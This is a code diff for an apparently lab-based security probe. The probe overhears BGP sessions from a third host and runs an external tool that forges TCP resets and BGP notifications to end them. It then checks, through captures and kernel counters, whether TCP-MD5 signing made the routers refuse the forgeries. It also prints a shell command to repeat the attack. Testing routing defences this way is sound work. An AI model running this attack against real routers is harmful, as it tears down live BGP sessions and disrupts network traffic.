@@ -1,11 +1,12 @@
 import { z } from 'zod';
 
 import { commandFailed } from '../exec/command.ts';
+import { LabError } from '../model/errors.ts';
 import { InterfaceName, NodeName } from '../model/ids.ts';
 import type { Attempt, Observation } from '../model/observation.ts';
-import { LabError } from '../model/errors.ts';
-import { addressPair } from './address-pair.ts';
+import { forgedWindow, type Forgeries, forgeriesIn, hitsIn } from './bgp/forgeries.ts';
 import {
+  interfaceWith,
   isSameSession,
   plannedSessions,
   type PlannedSession,
@@ -21,7 +22,13 @@ const Params = z.strictObject({
   interface: InterfaceName.describe('Its interface on that segment; raised for the attack if it is down'),
   victim: NodeName.describe('One router of the session'),
   neighbour: NodeName.describe('The other router'),
-  count: z.number().int().min(2).max(20).default(3).describe('Forged segments for each session'),
+  count: z
+    .number()
+    .int()
+    .min(1)
+    .max(20)
+    .default(2)
+    .describe('Forged notifications, and as many resets, for each end of each session'),
 });
 type Params = z.infer<typeof Params>;
 
@@ -29,8 +36,23 @@ type Params = z.infer<typeof Params>;
 interface Ends {
   readonly victim: ReadonlyMap<string, SessionState>;
   readonly neighbour: ReadonlyMap<string, SessionState>;
-  /** Segments that a kernel of the two refused for want of a signature (TcpExtTCPMD5NotFound, TcpExtTCPMD5Failure). */
-  readonly refused: number;
+  /** Segments that each kernel refused for want of a signature (TcpExtTCPMD5NotFound, TcpExtTCPMD5Failure). */
+  readonly refused: { readonly victim: number; readonly neighbour: number };
+}
+
+/** Where the attack is watched. */
+interface Captures {
+  readonly attacker: Capture;
+  readonly victim: Capture;
+  readonly neighbour: Capture;
+}
+
+/** What came of the attack. */
+interface Outcome {
+  readonly before: Ends;
+  /** When the last forged segment had arrived. */
+  readonly arrived: Ends;
+  readonly after: Ends;
 }
 
 /** Overhears the BGP sessions of others and forges segments into them that end them. */
@@ -40,6 +62,7 @@ export const bgpReset = defineProbe({
     'From a third host on the segment, overhears BGP sessions and ends them with forged TCP resets and notifications.',
   params: Params,
   exclusive: true,
+  undoMs: 15_000,
   nodes: ({ attacker, victim, neighbour }) => [attacker, victim, neighbour],
   observe,
 });
@@ -52,14 +75,22 @@ async function observe(params: Params, context: ProbeContext): Promise<Observati
   requireEstablished(sessions, before, params);
 
   const raised = await raiseInterface(network, attacker, iface, [], signal);
+  const captures: Capture[] = [];
   try {
-    const capture = await startCapture(network, attacker, iface, forgedFilter, signal);
-    try {
-      return await attack(params, sessions, before, capture, context);
-    } finally {
-      await capture.stop();
-    }
+    const listen = async (node: string, at: string, filter = 'tcp port 179'): Promise<Capture> => {
+      const capture = await startCapture(network, node, at, filter, signal);
+      captures.push(capture);
+      return capture;
+    };
+    const [ours, theirs] = (['local', 'remote'] as const).map((end) => sessions.map((it) => it[end]));
+    const [at, there, here] = await Promise.all([
+      listen(attacker, iface, forgedFilter),
+      listen(victim, interfaceWith(plan, victim, ours ?? [])),
+      listen(neighbour, interfaceWith(plan, neighbour, theirs ?? [])),
+    ]);
+    return await attack(params, sessions, before, { attacker: at, victim: there, neighbour: here }, context);
   } finally {
+    await Promise.all(captures.map((it) => it.stop()));
     await raised.stop();
     // What the attack broke heals by itself; nothing else may look at the network before.
     await pollUntil(
@@ -73,65 +104,130 @@ async function observe(params: Params, context: ProbeContext): Promise<Observati
   }
 }
 
-/** Ours are known by their window. tcpdump looks into TCP by name for IPv4 only: byte 14 there is byte 54 of an IPv6 packet. */
-const forgedFilter = '(tcp port 179 and tcp[14:2] = 4321) or (ip6 proto 6 and ip6[54:2] = 4321)';
+/** tcpdump looks into TCP by name for IPv4 only: byte 14 there is byte 54 of an IPv6 packet. */
+const forgedFilter = `(tcp port 179 and tcp[14:2] = ${forgedWindow}) or (ip6 proto 6 and ip6[54:2] = ${forgedWindow})`;
 
 async function attack(
   params: Params,
   sessions: readonly PlannedSession[],
   before: Ends,
-  capture: Capture,
+  captures: Captures,
   context: ProbeContext,
 ): Promise<Observation> {
-  const { attacker } = params;
-  const argv = [tool, orderOf(sessions, params)];
-  const result = await context.network.node(attacker).exec(argv, { signal: context.signal, timeoutMs: 8000 });
-  if (result.exitCode !== 0) throw commandFailed(result);
-  const total = result.stdout
-    .trim()
-    .split('\n')
-    .filter((line) => line !== '').length;
-  const forged = (session: PlannedSession): number =>
-    segmentsOf(
-      capture.frames().map((it) => it.bytes),
-      session,
-    );
-  await pollUntil(() => sessions.reduce((sum, session) => sum + forged(session), 0) >= total, 300, 10);
-
-  // Settled as soon as every segment was refused, or every session has ended; at the latest after the deadline.
-  let after = await readEnds(params, context);
+  const missed = (ends: Ends): PlannedSession[] =>
+    sessions.filter((it) => !hasEnded(it, before, ends) && !isHitThroughout(it, captures));
+  let arrived = before;
+  // A busy computer forges too late; then the next volley does.
+  for (let volley = 0; volley < 3; volley += 1) {
+    await fire(params, volley === 0 ? sessions : missed(arrived), captures, context);
+    arrived = await readEnds(params, context);
+    if (missed(arrived).length === 0) break;
+  }
+  // Of each session it shows whether it has ended, or goes on in spite of all; until then nothing is known.
+  let after = arrived;
+  const settled = (it: PlannedSession): boolean =>
+    hasEnded(it, before, after) || refusal(it, sessions, { before, arrived, after }, captures) !== undefined;
   await pollUntil(
     async () => {
-      const settled =
-        after.refused - before.refused >= total || sessions.every((session) => hasEnded(session, before, after));
-      if (!settled) after = await readEnds(params, context);
-      return settled;
+      if (sessions.every(settled)) return true;
+      after = await readEnds(params, context);
+      return sessions.every(settled);
     },
-    400,
+    holdMs,
     50,
   );
-  const attempts = sessions.map((session) => attemptOf(session, params, before, after, forged(session)));
-  const evidence = [
-    await capture.keep(context, `forged-${attacker}`, `Forged segments that left ${attacker}`),
-    await keepStates(params, sessions, before, after, context),
-  ];
-  return { attempts, evidence };
+  const outcome = { before, arrived, after };
+  return {
+    attempts: sessions.map((session) => attemptOf(session, sessions, params, outcome, captures)),
+    evidence: [
+      await captures.attacker.keep(
+        context,
+        `forged-${params.attacker}`,
+        `Forged segments that left ${params.attacker}`,
+      ),
+      await keepStates(params, sessions, outcome, context),
+    ],
+  };
+}
+
+/** Forges, and waits until all of it has arrived. */
+async function fire(
+  params: Params,
+  sessions: readonly PlannedSession[],
+  { attacker, victim, neighbour }: Captures,
+  { network, signal }: ProbeContext,
+): Promise<void> {
+  const argv = [tool, orderOf(sessions, params)];
+  const result = await network.node(params.attacker).exec(argv, { signal, timeoutMs: forgeMs + 5000 });
+  if (result.exitCode !== 0) throw commandFailed(result);
+  await pollUntil(
+    () =>
+      sessions.every(
+        (session) =>
+          total(forgeries(attacker, session, 'to-victim')) <= total(forgeries(victim, session, 'to-victim')) &&
+          total(forgeries(attacker, session, 'to-neighbour')) <= total(forgeries(neighbour, session, 'to-neighbour')),
+      ),
+    2000,
+  );
 }
 
 const tool = '/usr/lib/breakwater/attacks/reset-sessions';
 
+/** Each answers a segment that was overheard: there are some every second. */
+const forgeMs = 6000;
+
 function orderOf(sessions: readonly PlannedSession[], { interface: iface, count }: Params): string {
   const pairs = sessions.map(({ local, remote }) => [local, remote]);
-  return JSON.stringify({ interface: iface, sessions: pairs, count, seconds: 4 });
+  return JSON.stringify({ interface: iface, sessions: pairs, count, seconds: forgeMs / 1000 });
 }
 
-/** How many frames go from one end of the session to the other, in either direction. */
-export function segmentsOf(
-  frames: readonly Buffer[],
-  { local, remote }: Pick<PlannedSession, 'local' | 'remote'>,
-): number {
-  const pairs = [addressPair(local, remote), addressPair(remote, local)];
-  return frames.filter((frame) => pairs.some((pair) => frame.includes(pair))).length;
+type Direction = 'to-victim' | 'to-neighbour';
+const directions: readonly Direction[] = ['to-victim', 'to-neighbour'];
+
+function wayOf({ local, remote }: PlannedSession, direction: Direction): readonly [string, string] {
+  return direction === 'to-victim' ? [remote, local] : [local, remote];
+}
+
+function forgeries(capture: Capture, session: PlannedSession, direction: Direction): Forgeries {
+  return forgeriesIn(bytesOf(capture), ...wayOf(session, direction));
+}
+
+function bytesOf(capture: Capture): Buffer[] {
+  return capture.frames().map((it) => it.bytes);
+}
+
+function total({ resets, notifications }: Forgeries): number {
+  return resets + notifications;
+}
+
+/** Whether each end got a reset and a notification that it had to believe if it asks for no signature. */
+function isHitThroughout(session: PlannedSession, captures: Captures): boolean {
+  return directions.every((direction) => {
+    const capture = direction === 'to-victim' ? captures.victim : captures.neighbour;
+    const hits = hitsIn(bytesOf(capture), ...wayOf(session, direction));
+    return hits.resets > 0 && hits.notifications > 0;
+  });
+}
+
+/**
+ * What shows that a session took none of it: the kernels have counted every forged segment as unsigned, or both
+ * ends went on hearing each other afterwards. Two messages, for one may have been on its way.
+ */
+function refusal(
+  session: PlannedSession,
+  sessions: readonly PlannedSession[],
+  { before, arrived, after }: Outcome,
+  captures: Captures,
+): 'unsigned' | 'went on' | undefined {
+  if (!isHitThroughout(session, captures) || hasEnded(session, before, after)) return undefined;
+  const unsigned = (['victim', 'neighbour'] as const).every((end) => {
+    const got = sessions.map((it) => total(forgeries(captures[end], it, `to-${end}`)));
+    return after.refused[end] - before.refused[end] >= got.reduce((sum, it) => sum + it, 0);
+  });
+  if (unsigned) return 'unsigned';
+  const heard = (end: 'victim' | 'neighbour', address: string): number =>
+    (after[end].get(address)?.messagesReceived ?? 0) - (arrived[end].get(address)?.messagesReceived ?? 0);
+  return heard('victim', session.remote) >= 2 && heard('neighbour', session.local) >= 2 ? 'went on' : undefined;
 }
 
 async function readEnds({ victim, neighbour }: Params, { network, signal }: ProbeContext): Promise<Ends> {
@@ -140,13 +236,13 @@ async function readEnds({ victim, neighbour }: Params, { network, signal }: Prob
       .node(node)
       .exec(['nstat', '-asz', 'TcpExtTCPMD5NotFound', 'TcpExtTCPMD5Failure'], { signal })
       .then(({ stdout }) => sumOfCounters(stdout));
-  const [states, neighbourStates, ...counts] = await Promise.all([
+  const [states, neighbourStates, atVictim, atNeighbour] = await Promise.all([
     readSessions(network, victim, signal),
     readSessions(network, neighbour, signal),
     refused(victim),
     refused(neighbour),
   ]);
-  return { victim: states, neighbour: neighbourStates, refused: counts.reduce((sum, it) => sum + it, 0) };
+  return { victim: states, neighbour: neighbourStates, refused: { victim: atVictim, neighbour: atNeighbour } };
 }
 
 /** Adds up what `nstat` prints: `TcpExtTCPMD5NotFound            3                  0.0`. */
@@ -202,11 +298,22 @@ function hasEnded({ local, remote }: PlannedSession, before: Ends, after: Ends):
   );
 }
 
-function attemptOf(session: PlannedSession, params: Params, before: Ends, after: Ends, frames: number): Attempt {
+function attemptOf(
+  session: PlannedSession,
+  sessions: readonly PlannedSession[],
+  params: Params,
+  outcome: Outcome,
+  captures: Captures,
+): Attempt {
   const { attacker, interface: iface, victim, neighbour } = params;
   const { family, local, remote } = session;
+  const { before, after } = outcome;
+  const left = directions.map((it) => forgeries(captures.attacker, session, it));
+  const frames = left.reduce((sum, it) => sum + total(it), 0);
+  const forged = `${frames} forged segments`;
   // A session that ended without a segment of ours ended for another reason, and proves nothing.
   const reset = frames > 0 && hasEnded(session, before, after);
+  const how = refusal(session, sessions, outcome, captures);
   const dropped = [before, after].map((it) => it.victim.get(remote)?.dropped ?? 0);
   return {
     label: `forged segments into the session ${local} – ${remote}`,
@@ -214,11 +321,16 @@ function attemptOf(session: PlannedSession, params: Params, before: Ends, after:
     family,
     from: attacker,
     to: victim,
-    sent: reset || frames >= params.count,
+    sent: reset || left.every((it) => it.resets > 0 && it.notifications > 0),
     succeeded: reset,
+    ...(how === undefined ? {} : { proof: 'counted' as const }),
     seen: reset
-      ? `after ${frames} forged segments the session of ${victim} and ${neighbour} had ended (sessions dropped so far: ${dropped.join(' → ')})`
-      : `${frames} forged segments were sent, the session goes on; the kernels refused ${after.refused - before.refused} of both sessions`,
+      ? `after ${forged} the session of ${victim} and ${neighbour} had ended (sessions dropped so far: ${dropped.join(' → ')})`
+      : how === 'unsigned'
+        ? `${forged} arrived with the numbers that were expected, the kernels refused all of them as unsigned, and the session goes on`
+        : how === 'went on'
+          ? `${forged} arrived with the numbers that were expected, and afterwards both ends went on hearing each other`
+          : `${forged} left, and nothing shows that both ends got them in time and went on in spite of them`,
     repeat: `breakwater exec ${attacker} -- sh -c 'ip link set ${iface} up && ${tool} "$0"' '${orderOf([session], params)}'`,
   };
 }
@@ -226,8 +338,7 @@ function attemptOf(session: PlannedSession, params: Params, before: Ends, after:
 async function keepStates(
   { victim, neighbour }: Params,
   sessions: readonly PlannedSession[],
-  before: Ends,
-  after: Ends,
+  { before, after }: Outcome,
   { keep }: ProbeContext,
 ) {
   const line = (when: string, node: string, address: string, state: SessionState | undefined): string =>
@@ -240,7 +351,10 @@ async function keepStates(
       ]),
     )
     .concat(
-      `unsigned segments refused (TcpExtTCPMD5NotFound + TcpExtTCPMD5Failure, both ends): ${before.refused} → ${after.refused}`,
+      (['victim', 'neighbour'] as const).map(
+        (end) =>
+          `unsigned segments refused (TcpExtTCPMD5NotFound + TcpExtTCPMD5Failure) by ${end === 'victim' ? victim : neighbour}: ${before.refused[end]} → ${after.refused[end]}`,
+      ),
     )
     .join('\n');
   const command = `breakwater exec ${victim} -- sh -c "vtysh -c 'show bgp neighbors' | grep -E 'neighbor is|dropped|Last reset'; nstat -az TcpExtTCPMD5NotFound"`;
